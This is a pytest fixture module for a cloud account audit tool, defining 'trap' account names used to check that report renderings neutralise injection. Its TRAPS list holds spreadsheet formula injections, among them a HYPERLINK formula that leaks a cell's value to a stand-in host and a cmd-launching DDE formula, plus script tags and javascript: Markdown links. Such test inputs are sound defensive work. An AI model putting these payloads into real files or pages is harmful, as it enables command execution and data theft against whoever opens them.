"""Audits for the renderings: the example account's, accounts whose names are traps, and findings put together."""

from __future__ import annotations

import unicodedata
from collections.abc import Iterator, Mapping
from dataclasses import replace
from functools import cache
from typing import Any

import pytest

from chalicelib.audit import Audit, judge
from chalicelib.findings import Finding, Severity
from chalicelib.local.example import read_example
from tests.accounts import build
from tests.report.test_hostile_names import HOSTILE, answers

TRAPS = HOSTILE | {
    "a formula": '=HYPERLINK("http://example.com/?"&A1,"open")',
    "a formula after a space": " =1+1",
    "a formula after a tab": "\t=1+1",
    "a formula after a newline": "\n@SUM(1)",
    "a formula after a no-break space": "\u00a0-1+1",
    "a formula in wide signs": "＝cmd|' /C calc'!A0",
    "a formula behind a semicolon": "a;=1+1; +2",
    "a plus": "+1+1",
    "a minus": "-1+1",
    "an at sign": "@all",
    "quotes and commas": 'a",=1+1,"b',
    "a script": "<script>alert(1)</script>",
    "an image": "<img src=http://example.com/x.png>",
    "a Markdown link": "[x](javascript:alert)",
    "a Markdown link, escaped": "[x\\](javascript:alert)",
    "a Markdown image": "![x](http://example.com/x.png)",
    "a Markdown reference": "[x]: http://example.com",
    "an autolink": "<http://example.com>",
    "a code span": "`a` [x](http://example.com)",
    "a placeholder": "{0} {{1}} ${aws:username}",
    "a long name": "x" * 5000,
}
each_trap = pytest.mark.parametrize("name", TRAPS.values(), ids=list(TRAPS))


@cache
def example() -> Audit:
    """The audit of the example account."""
    return judge(read_example())


@cache
def trapped(name: str) -> Audit:
    """The audit of an account where every name is the trap."""
    return build.audit(answers(name))


def audit_with(*findings: Finding, **fields: Any) -> Audit:
    """The example account's audit with other findings."""
    return replace(example(), findings=findings, **fields)


def finding_with(evidence: Mapping[str, Any] | None = None, **fields: Any) -> Finding:
    """A finding about alice with this evidence."""
    given = {
        "control": "mfa-not-enforced",
        "account": build.ACCOUNT,
        "resource": f"arn:aws:iam::{build.ACCOUNT}:user/alice",
        "severity": Severity.HIGH,
        "title": "MFA is not enforced",
        "fix": "Enforce it.",
        "user": "alice",
        "evidence": evidence or {},
    }
    return Finding(**given | fields)


def texts(value: Any) -> Iterator[str]:
    """Every text inside a JSON value, keys included."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, Mapping):
        for key, item in value.items():
            yield key
            yield from texts(item)
    elif isinstance(value, list):
        for item in value:
            yield from texts(item)


def unsafe(text: str) -> list[str]:
    """The characters that a viewer should not be given."""
    return [c for c in text if unicodedata.category(c) in ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")]
